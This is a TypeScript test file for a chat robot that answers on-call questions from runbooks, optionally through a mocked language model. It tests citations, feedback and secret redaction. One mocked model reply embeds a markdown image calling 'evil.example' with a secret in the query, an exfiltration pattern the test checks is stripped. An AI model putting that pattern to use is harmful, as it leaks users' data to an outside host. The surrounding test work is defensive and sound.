/** Asking in a room: real robot, dispatch, files, memory and model client; the model's server is ours. */

import { fileURLToPath } from 'node:url';
import { expect } from 'chai';
import { createOpenAiModel } from '../../src/adapters/ai/openai/client.ts';
import { createKnowledgeFiles } from '../../src/adapters/knowledge/files.ts';
import { createKnowledge } from '../../src/domain/ask/ask.ts';
import { redact } from '../../src/domain/privacy/redact.ts';
import { createAskStore } from '../../src/storage/ask.ts';
import type { Database } from '../../src/storage/database.ts';
import { createFeedbackStore } from '../../src/storage/feedback.ts';
import { inMemoryCommands } from '../support/commands.ts';
import { quiet, testDatabase } from '../support/database.ts';
import { type ModelServer, modelServer, type Reply, refuses, says } from '../support/openai.ts';
import { Helper, type Room } from '../support/room.ts';

const here = (path: string): string => fileURLToPath(new URL(`../../${path}`, import.meta.url));
const QUESTION = 'what do I do when KubePodCrashLooping fires?';

describe('scripts/ask-ai.ts', function () {
  this.timeout(30_000);
  let db: Database;
  let server: ModelServer;
  let room: Room;

  before(async () => {
    db = await testDatabase();
  });
  after(() => db.close());
  beforeEach(async () => {
    server = await modelServer();
    await db.pool.query('truncate ask_turns, ask_feedback');
  });
  afterEach(async () => {
    await room.destroy();
    await server.finish();
  });

  /** A room with a robot; with prepared answers it has a model, else none. */
  async function open(...replies: Reply[]): Promise<void> {
    server.prepare(...replies);
    const now = (): Date => new Date('2026-11-20T08:00:00Z');
    const knowledge = createKnowledge({
      source: createKnowledgeFiles({
        folder: here('test/fixtures/runbooks'),
        contextFile: here('test/fixtures/config/context.md'),
        baseUrl: 'https://shipmate.example',
        log: quiet,
      }),
      memory: createAskStore(db, { retentionMs: 86_400_000 }),
      feedback: createFeedbackStore(db, { retentionMs: 86_400_000 }),
      model:
        replies.length > 0 ? createOpenAiModel({ apiKey: 'sk-x', baseUrl: server.url, model: 'small' }) : undefined,
      redact,
      now,
      log: quiet,
    });
    const commands = inMemoryCommands({
      services: { knowledge },
      now,
      policy: { people: { 'test:carol': ['admin'] } },
    });
    room = await new Helper(here('scripts/ask-ai.ts')).createRoom({ name: 'ops', prepare: commands.prepare });
  }

  const last = (): string => room.messages.at(-1)?.[1] ?? '';

  describe('without a model', () => {
    it('answers with the passage, says so, and links to file and section', async () => {
      await open();
      await room.user.say('alice', `hubot ask ${QUESTION}`);
      const [shown] = room.cards;
      expect(shown?.title).to.equal('KubePodCrashLooping');
      expect(shown?.text).to.contain('kubectl -n <namespace> logs <pod> --previous');
      expect(shown?.footer).to.match(/^No model is configured: this is the passage/);
      expect(shown?.fields?.[0]?.value).to.contain(
        'https://shipmate.example/runbooks/kubernetes/pod-crash-looping.md#first-five-minutes',
      );
    });

    it('answers a sentence that is no command', async () => {
      await open();
      await room.user.say('alice', 'hubot how do I roll back a failed deploy?');
      expect(room.cards[0]?.title).to.equal('Deploy failed or made things worse');
    });

    it('never answers who did not address it', async () => {
      await open();
      await room.user.say('alice', QUESTION);
      expect(room.messages).to.have.length(1);
    });

    it('says when nothing fits', async () => {
      await open();
      await room.user.say('alice', 'hubot ask where is the coffee machine?');
      expect(room.cards[0]?.title).to.equal('I have no answer to that');
      expect(last()).to.contain('Nothing in 7 runbooks fits');
    });

    it('greets who greets', async () => {
      await open();
      await room.user.say('alice', 'hubot hello there');
      expect(room.cards[0]?.title).to.equal('Hello!');
      await room.user.say('alice', 'hubot thanks!');
      expect(last()).to.equal('You are welcome.');
    });

    it('says what it is for when asked about itself', async () => {
      await open();
      for (const question of ['what can you do?', 'Who are you?', "what's up?"]) {
        await room.user.say('alice', `hubot ${question}`);
        expect(room.cards.at(-1)?.title, question).to.equal('Hello!');
        expect(room.cards.at(-1)?.text).to.contain('`help` shows what you can run');
      }
    });

    it('understands a follow-up, until it is told to forget', async () => {
      await open();
      await room.user.say('alice', `hubot ask ${QUESTION}`);
      await room.user.say('alice', 'hubot and then what?');
      expect(room.cards[1]?.title).to.equal('KubePodCrashLooping');
      await room.user.say('alice', 'hubot forget');
      expect(last()).to.contain('Forgotten: 2 questions');
      await room.user.say('alice', 'hubot forget');
      expect(last()).to.contain('nothing to forget');
    });
  });

  describe('feedback', () => {
    const ratings = async () => (await db.pool.query('select * from ask_feedback order by person_id')).rows;

    it('is one word of each person on each answer, which may change', async () => {
      await open();
      await room.user.say('alice', `hubot ask ${QUESTION}`);
      await room.press('bob', 'Helpful');
      expect(room.messagesOnlyTo('bob').at(-1)).to.contain('Noted, thank you: helpful');
      await room.press('alice', 'Not helpful');
      const number = /ask rate (\d+)/.exec(room.cards[0]?.actions?.[0]?.command ?? '')?.[1];
      await room.user.say('alice', `hubot ask rate ${number} unhelpful the token is ghp_${'a1B2c3D4e5F6'.repeat(3)}`);
      expect(room.messagesOnlyTo('alice').at(-1)).to.match(/^Changed, thank you: unhelpful\.$/);
      const rows = await ratings();
      expect(rows.map((row) => [row.person_name, row.helpful])).to.deep.equal([
        ['alice', false],
        ['bob', true],
      ]);
      expect(rows[0]).to.include({ question: QUESTION });
      expect(rows[0].note).to.contain('the token is').and.not.contain('ghp_');
    });

    it('is shown to who may see it, also when the conversation is forgotten', async () => {
      await open();
      await room.user.say('alice', `hubot ask ${QUESTION}`);
      await room.press('bob', 'Not helpful');
      await room.user.say('alice', 'hubot forget');
      await room.user.say('bob', 'hubot ask feedback');
      expect(last()).to.contain('`ask:feedback`');
      await room.user.say('carol', 'hubot ask feedback');
      expect(room.messagesOnlyTo('carol').at(-1)).to.contain('0 of the latest 1').and.contain('KubePodCrashLooping');
    });

    it('is about an answer given here', async () => {
      await open();
      await room.user.say('alice', 'hubot ask rate 4711 helpful');
      expect(last()).to.contain('I gave no answer 4711 here');
      await room.user.say('alice', 'hubot ask rate limits of KubePodCrashLooping?');
      expect(room.cards.at(-1)?.title).to.equal('KubePodCrashLooping');
    });
  });

  describe('with a model', () => {
    it('answers in its words, with checked citations', async () => {
      await open(says('Look at the last log [1][99]. See ![x](http://evil.example/?q=secret) @channel'));
      await room.user.say('alice', `hubot ask ${QUESTION}`);
      const [shown] = room.cards;
      expect(shown?.text).to.contain('[\\[1\\]](https://shipmate.example/runbooks/kubernetes/pod-crash-looping.md');
      expect(shown?.text).not.to.match(/99|evil|@channel/);
      expect(shown?.footer).to.contain('Answered by small from the runbooks');
    });

    it('marks an answer without citations as the model’s own', async () => {
      await open(says('Turn it off and on again.'));
      await room.user.say('alice', 'hubot ask how do pancakes work?');
      expect(room.cards[0]?.title).to.equal('Not from the runbooks');
      expect(server.seen[0]?.text).to.contain('No passage of the team fits');
    });

    it('shows the passages when the model fails', async () => {
      await open(refuses(401, 'invalid_api_key'));
      await room.user.say('alice', `hubot ask ${QUESTION}`);
      expect(room.cards[0]?.text).to.match(/^The model does not accept my key\. .+\n\n\*\*First five minutes\*\*/);
      expect(last()).not.to.contain('invalid_api_key');
    });

    it('sends no secret, and nothing of other people', async () => {
      await open(says('ok [1]'), says('ok [1]'));
      const secret = `ghp_${'a1B2c3D4e5F6'.repeat(3)}`;
      await room.user.say('bob', 'hubot ask is the disk full of pancakes?');
      await room.user.say('alice', `hubot ask why is ${secret} refused by KubePodCrashLooping?`);
      const sent = server.seen[1]?.text ?? '';
      expect(sent).not.to.contain(secret);
      expect(sent).to.contain('redacted');
      expect(sent).not.to.contain('pancakes');
      expect(sent.length).to.be.lessThan(30_000);
      const { rows } = await db.pool.query('select question from ask_turns');
      expect(JSON.stringify(rows)).not.to.contain(secret);
    });

    it('sends what was said before in the same conversation', async () => {
      await open(says('First the log [1].'), says('Then the limit [1].'));
      await room.user.say('alice', `hubot ask ${QUESTION}`);
      await room.user.say('alice', 'hubot and then?');
      expect(server.seen[1]?.body.messages.map(({ role }) => role)).to.deep.equal([
        'system',
        'user',
        'assistant',
        'user',
      ]);
      expect(server.seen[1]?.text).to.contain('First the log');
    });
  });
});
